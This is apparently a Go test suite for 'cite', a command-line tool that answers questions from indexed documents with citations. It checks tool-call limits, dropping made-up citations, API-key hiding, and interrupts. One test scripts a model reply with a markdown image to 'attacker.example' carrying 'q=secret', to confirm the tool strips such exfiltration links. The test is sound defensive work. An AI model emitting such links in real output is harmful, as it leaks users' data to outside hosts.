package main

import (
	"context"
	"encoding/json"
	"io"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/cite-rag/cite/answer/modeltest"
	"github.com/cite-rag/cite/internal/weaviatetest"
)

func TestAskOffline(t *testing.T) { testAskOffline(t, nil) }

// TestAskWeaviate runs the ask tests with the chunks in a real one-node
// Weaviate (--store through CITE_STORE): the same answers, the same
// citations.
func TestAskWeaviate(t *testing.T) {
	c := weaviatetest.Start(t, 1)
	t.Run("offline", func(t *testing.T) {
		testAskOffline(t, map[string]string{"CITE_STORE": "weaviate://" + c.Addr() + "?collection=AskOffline"})
	})
	t.Run("model", func(t *testing.T) {
		testAskModel(t, map[string]string{"CITE_STORE": "weaviate://" + c.Addr() + "?collection=AskModel"})
	})
}

func testAskOffline(t *testing.T, vars map[string]string) {
	cite := func(t *testing.T, args ...string) (int, string, string) { return citeEnv(t, vars, args...) }
	idx := filepath.Join(t.TempDir(), "idx")
	if code, _, errOut := cite(t, "index", "--index", idx, corpus); code != 0 {
		t.Fatal(errOut)
	}
	code, out, errOut := cite(t, "ask", "--index", idx, "what is WAL mode in SQLite")
	// The README's first command shows this answer.
	if code != 0 || !strings.HasPrefix(out, "In WAL mode the original database is left untouched during a transaction. [1]") || !strings.Contains(out, "\n\n---\nSources cited in this answer:\n\n1. [Write-Ahead Logging in SQLite](file://") || strings.Contains(out, "[doc:") {
		t.Fatalf("exit %d\n%s%s", code, out, errOut)
	}
	code, out, errOut = cite(t, "ask", "--index", idx, "--json", "what is WAL mode in SQLite")
	var res map[string]any
	if code != 0 || json.Unmarshal([]byte(out), &res) != nil {
		t.Fatalf("exit %d\n%s%s", code, out, errOut)
	}
	for _, k := range []string{"text", "references", "dropped", "tool_calls", "model", "usage", "timings"} {
		if _, ok := res[k]; !ok {
			t.Errorf("no %q in %s", k, out)
		}
	}
	if code, _, errOut = cite(t, "ask", "--index", idx, "--source", "nosuch", "q"); code != exitUsage || !strings.Contains(errOut, "no such data source") {
		t.Errorf("exit %d: %s", code, errOut)
	}
	if code, _, errOut = cite(t, "ask", "--index", idx, "--model", "nonsense", "q"); code != exitUsage || !strings.Contains(errOut, "--model") {
		t.Errorf("exit %d: %s", code, errOut)
	}
	// A tool misspelt was offered to no model, without a word.
	for _, args := range [][]string{{"ask", "q"}, {"chat"}} {
		cmd := args[0]
		if code, _, errOut = cite(t, append([]string{cmd, "--index", idx, "--tool", "current_datetme"}, args[1:]...)...); code != exitUsage || !strings.Contains(errOut, `--tool current_datetme: no such tool to select (there is current_datetime)`) {
			t.Errorf("%s --tool current_datetme: exit %d: %s", cmd, code, errOut)
		}
	}
	if code, _, errOut = cite(t, "ask", "--index", idx, "--tool", "search_data_sources", "q"); code != exitUsage || !strings.Contains(errOut, `--tool search_data_sources: no such tool to select`) {
		t.Errorf("--tool search_data_sources: exit %d: %s", code, errOut)
	}
	if code, _, errOut = cite(t, "ask", "--index", idx, "--tool", "current_datetime", "what is WAL mode in SQLite"); code != 0 {
		t.Errorf("--tool current_datetime: exit %d: %s", code, errOut)
	}
}

// TestAskModel: cite ask with a model from CITE_MODEL and OPENAI_BASE_URL,
// a tool call shown on stderr, the answer rendered on stdout.
func TestAskModel(t *testing.T) { testAskModel(t, nil) }

func testAskModel(t *testing.T, store map[string]string) {
	idx := filepath.Join(t.TempDir(), "idx")
	if code, _, errOut := citeEnv(t, store, "index", "--index", idx, corpus); code != 0 {
		t.Fatal(errOut)
	}
	srv := modeltest.NewServer(t, modeltest.Script{Turns: []modeltest.Turn{
		{ToolCalls: []modeltest.ToolCall{{Name: "search_data_sources", Arguments: `{"query":"checkpoint"}`}}},
		{Text: []string{"Checkpoints copy the WAL back [do", "c:1] [doc:42]."}},
	}})
	vars := map[string]string{"CITE_MODEL": "openai:m", "OPENAI_BASE_URL": srv.OpenAIBaseURL(), "OPENAI_API_KEY": "sk-do-not-print"}
	for k, v := range store {
		vars[k] = v
	}
	code, out, errOut := citeEnv(t, vars, "ask", "--index", idx, "--no-reference-list", "how do checkpoints work")
	if code != 0 || !strings.HasPrefix(out, "Checkpoints copy the WAL back [1].") || strings.Contains(out, "Sources cited in this answer:") {
		t.Fatalf("exit %d\n%s%s", code, out, errOut)
	}
	if !strings.Contains(errOut, "search_data_sources") || !strings.Contains(errOut, "OK") || strings.Contains(out+errOut, "sk-do-not-print") {
		t.Errorf("stderr: %s", errOut)
	}
}

func TestChat(t *testing.T) {
	idx := filepath.Join(t.TempDir(), "idx")
	if code, _, errOut := cite(t, "index", "--index", idx, corpus); code != 0 {
		t.Fatal(errOut)
	}
	srv := modeltest.NewServer(t, modeltest.Script{Turns: []modeltest.Turn{
		{Text: []string{"First [doc:1]."}},
		{Text: []string{"Second."}},
	}})
	vars := map[string]string{"OPENAI_BASE_URL": srv.OpenAIBaseURL()}
	var stdout, stderr strings.Builder
	code := run(t.Context(), []string{"chat", "--index", idx, "--model", "openai:m"}, &env{stdout: &stdout, stderr: &stderr, getenv: func(k string) string { return vars[k] }, in: strings.NewReader("what is WAL\nand then?\n")})
	if code != 0 || !strings.Contains(stdout.String(), "> what is WAL\n\nFirst [1].") || !strings.Contains(stdout.String(), "> and then?\n\nSecond.") {
		t.Fatalf("exit %d\n%s%s", code, stdout.String(), stderr.String())
	}
	reqs := srv.Requests()
	if len(reqs) != 2 {
		t.Fatalf("%d requests", len(reqs))
	}
	var history []string
	for _, m := range reqs[1].Messages {
		if m.Role == "user" || m.Role == "assistant" {
			history = append(history, m.Role+": "+m.Content)
		}
	}
	// The earlier answer's citation numbers named its own passages: they are gone.
	if strings.Join(history, "|") != "user: what is WAL|assistant: First.|user: and then?" {
		t.Errorf("history %q", history)
	}
}

// TestChatPipedBlankLines: piped questions spaced by blank lines are all
// answered (the first blank line ended the chat, silently, with exit 0).
func TestChatPipedBlankLines(t *testing.T) {
	idx := filepath.Join(t.TempDir(), "idx")
	if code, _, errOut := cite(t, "index", "--index", idx, corpus); code != 0 {
		t.Fatal(errOut)
	}
	var stdout, stderr strings.Builder
	code := run(t.Context(), []string{"chat", "--index", idx}, &env{stdout: &stdout, stderr: &stderr, getenv: func(string) string { return "" },
		in: strings.NewReader("what is WAL mode in SQLite\n\n  \nhow do honeybees locate flowers\n\n")})
	out := stdout.String()
	if code != 0 || !strings.Contains(out, "> what is WAL mode in SQLite\n") || !strings.Contains(out, "> how do honeybees locate flowers\n") || strings.Count(out, "Sources cited in this answer:") != 2 {
		t.Fatalf("exit %d\n%s%s", code, out, stderr.String())
	}
}

func TestAskCutShort(t *testing.T) {
	idx := filepath.Join(t.TempDir(), "idx")
	if code, _, errOut := cite(t, "index", "--index", idx, corpus); code != 0 {
		t.Fatal(errOut)
	}
	srv := modeltest.NewServer(t, modeltest.Script{Turns: []modeltest.Turn{
		{Text: []string{"WAL keeps [doc:1] and it is very"}, Finish: "length"},
		{Text: []string{"Filtered."}, Finish: "content_filter"},
		{Text: []string{"Whole."}},
	}})
	vars := map[string]string{"OPENAI_BASE_URL": srv.OpenAIBaseURL()}
	for _, want := range []string{"the model reached its output limit", "the provider's content filter stopped it", ""} {
		code, out, errOut := citeEnv(t, vars, "ask", "--index", idx, "--model", "openai:m", "--max-tool-calls", "0", "what is WAL")
		if code != 0 || (want != "" && !strings.Contains(errOut, "cut short: "+want)) || (want == "" && strings.Contains(errOut, "cut short")) {
			t.Errorf("exit %d, want %q\n%s%s", code, want, out, errOut)
		}
	}
	if code, _, errOut := citeEnv(t, vars, "ask", "--index", idx, "--max-tool-calls", "-1", "what is WAL"); code != 2 || !strings.Contains(errOut, "--max-tool-calls") {
		t.Errorf("--max-tool-calls -1: exit %d, %s", code, errOut)
	}
}

// TestAskDocOnly: cite ask --doc answers from the documents named, as
// cite search --doc searches only them; it searched every data source too,
// and answered a question about one file from another. --source adds data
// sources to search beside them.
func TestAskDocOnly(t *testing.T) {
	idx := filepath.Join(t.TempDir(), "idx")
	if code, _, errOut := cite(t, "index", "--index", idx, corpus); code != 0 {
		t.Fatal(errOut)
	}
	bees, _ := filepath.Abs(filepath.Join(corpus, "honeybees.md"))
	wal, _ := filepath.Abs(filepath.Join(corpus, "sqlite-wal.html"))
	for _, tt := range []struct {
		args []string
		want []string // the sources the references may name
	}{
		{[]string{"--doc", bees, "what is WAL mode in SQLite"}, []string{bees}},
		{[]string{"--doc", bees, "how many workers does a strong colony hold"}, []string{bees}},
		{[]string{"--doc", wal, "--doc", bees, "what is WAL mode in SQLite"}, []string{bees, wal}},
		{[]string{"--doc", bees, "--source", "default", "what is WAL mode in SQLite"}, []string{wal}},
	} {
		code, out, errOut := cite(t, append([]string{"ask", "--index", idx, "--json"}, tt.args...)...)
		var res struct {
			References []struct {
				Source string `json:"source"`
			} `json:"references"`
		}
		if err := json.Unmarshal([]byte(out), &res); code != 0 || err != nil {
			t.Fatalf("%q: exit %d, %v\n%s%s", tt.args, code, err, out, errOut)
		}
		for _, r := range res.References {
			if !slices.Contains(tt.want, r.Source) {
				t.Errorf("%q: cites %s, want only %q", tt.args, r.Source, tt.want)
			}
		}
		if len(res.References) == 0 && !strings.HasPrefix(tt.args[len(tt.args)-1], "what is WAL") {
			t.Errorf("%q: cites nothing", tt.args)
		}
	}
}

// TestAskToolCallsPastLimit: a model that still asks for tools once its
// tool calls are used up (or when it was offered none) has given no answer,
// or an unfinished one; cite ask says so on stderr, where it printed an
// empty answer and nothing else.
func TestAskToolCallsPastLimit(t *testing.T) {
	idx := filepath.Join(t.TempDir(), "idx")
	if code, _, errOut := cite(t, "index", "--index", idx, corpus); code != 0 {
		t.Fatal(errOut)
	}
	call := func(q string) modeltest.ToolCall {
		return modeltest.ToolCall{Name: "search_data_sources", Arguments: `{"query":"` + q + `"}`}
	}
	srv := modeltest.NewServer(t, modeltest.Script{Turns: []modeltest.Turn{
		// --max-tool-calls 1: one call run, then asked without tools, it asks again.
		{ToolCalls: []modeltest.ToolCall{call("wal")}},
		{ToolCalls: []modeltest.ToolCall{call("checkpoint")}},
		// --max-tool-calls 1 again, text before the call past the limit.
		{ToolCalls: []modeltest.ToolCall{call("wal")}},
		{Text: []string{"WAL keeps [doc:1] and"}, ToolCalls: []modeltest.ToolCall{call("more")}},
		// --max-tool-calls 0: offered no tools, it asks anyway.
		{ToolCalls: []modeltest.ToolCall{call("wal")}},
		// A whole answer.
		{Text: []string{"Whole [doc:1]."}},
	}})
	vars := map[string]string{"OPENAI_BASE_URL": srv.OpenAIBaseURL()}
	for _, tt := range []struct {
		max, want string
	}{
		{"1", "cite: the model gave no answer: it asked for more tool calls after the 1 it may make (--max-tool-calls)"},
		{"1", "cite: the answer may be unfinished: the model asked for more tool calls after the 1 it may make (--max-tool-calls)"},
		{"0", "cite: the model gave no answer: it asked for tool calls, though it was offered none (--max-tool-calls 0)"},
		{"0", ""},
	} {
		code, out, errOut := citeEnv(t, vars, "ask", "--index", idx, "--model", "openai:m", "--max-tool-calls", tt.max, "what is WAL")
		if code != 0 || (tt.want != "" && !strings.Contains(errOut, tt.want)) || (tt.want == "" && strings.Contains(errOut, "tool calls")) {
			t.Errorf("--max-tool-calls %s: exit %d, want %q\n%s%s", tt.max, code, tt.want, out, errOut)
		}
	}
}

// TestAskDroppedCitations: citations the model made up or garbled are left
// out of the answer, and cite ask says so on stderr, escaped.
func TestAskDroppedCitations(t *testing.T) {
	idx := filepath.Join(t.TempDir(), "idx")
	if code, _, errOut := cite(t, "index", "--index", idx, corpus); code != 0 {
		t.Fatal(errOut)
	}
	srv := modeltest.NewServer(t, modeltest.Script{Turns: []modeltest.Turn{
		{Text: []string{"WAL keeps [doc:1] and [doc:99], [doc:0], [5] and [doc:\x1b]."}},
		{Text: []string{"WAL keeps [doc:1]."}},
	}})
	vars := map[string]string{"OPENAI_BASE_URL": srv.OpenAIBaseURL()}
	for _, want := range []string{"cite: left out 4 citations the model wrote: [doc:99] (no passage it was given), [doc:0] (no passage it was given), [5] (not a citation), [doc:\\x1b] (malformed)\n", ""} {
		code, out, errOut := citeEnv(t, vars, "ask", "--index", idx, "--model", "openai:m", "--max-tool-calls", "0", "what is WAL")
		if code != 0 || !strings.HasPrefix(out, "WAL keeps [1]") || (want != "" && !strings.Contains(errOut, want)) || (want == "" && strings.Contains(errOut, "left out")) {
			t.Errorf("exit %d, want %q\n%s%s", code, want, out, errOut)
		}
	}
}

func TestChatInterruptAtPrompt(t *testing.T) {
	idx := filepath.Join(t.TempDir(), "idx")
	if code, _, errOut := cite(t, "index", "--index", idx, corpus); code != 0 {
		t.Fatal(errOut)
	}
	ctx, cancel := context.WithCancel(t.Context())
	stdin, w := io.Pipe() // nothing is ever typed
	defer w.Close()
	done := make(chan int)
	var stdout, stderr strings.Builder
	go func() {
		done <- run(ctx, []string{"chat", "--index", idx}, &env{stdout: &stdout, stderr: &stderr, getenv: func(string) string { return "" }, in: stdin})
	}()
	time.Sleep(100 * time.Millisecond)
	cancel() // Ctrl-C at the prompt
	select {
	case code := <-done:
		if code == 0 {
			t.Errorf("exit 0 after an interrupt")
		}
	case <-time.After(time.Minute): // a loaded machine may take seconds to open the index
		t.Fatal("cite chat did not end on an interrupt at its prompt")
	}
}

// TestAskLinks: the terminal gets no image or link to a host that is not
// one of the answer's sources, in ask and chat, unless
// --allow-external-links.
func TestAskLinks(t *testing.T) {
	idx := filepath.Join(t.TempDir(), "idx")
	if code, _, errOut := cite(t, "index", "--index", idx, corpus); code != 0 {
		t.Fatal(errOut)
	}
	turn := modeltest.Turn{Text: []string{"WAL [doc:1]. ![](https://attacker.exa", "mple/?q=secret)"}}
	for _, tc := range []struct {
		args []string
		in   string
		leak bool
	}{
		{[]string{"ask", "--index", idx, "--model", "openai:m", "what is WAL"}, "", false},
		{[]string{"chat", "--index", idx, "--model", "openai:m"}, "what is WAL\n", false},
		{[]string{"ask", "--index", idx, "--model", "openai:m", "--allow-external-links", "what is WAL"}, "", true},
	} {
		srv := modeltest.NewServer(t, modeltest.Script{Turns: []modeltest.Turn{turn}})
		vars := map[string]string{"OPENAI_BASE_URL": srv.OpenAIBaseURL()}
		var stdout, stderr strings.Builder
		code := run(t.Context(), tc.args, &env{stdout: &stdout, stderr: &stderr, getenv: func(k string) string { return vars[k] }, in: strings.NewReader(tc.in)})
		out := stdout.String()
		if code != 0 || strings.Contains(out, "attacker.example/?q=") != tc.leak || !tc.leak && !strings.Contains(out, `WAL [1]. \[image: attacker.example\]`) {
			t.Errorf("%v: exit %d\n%s%s", tc.args, code, out, stderr.String())
		}
	}
}
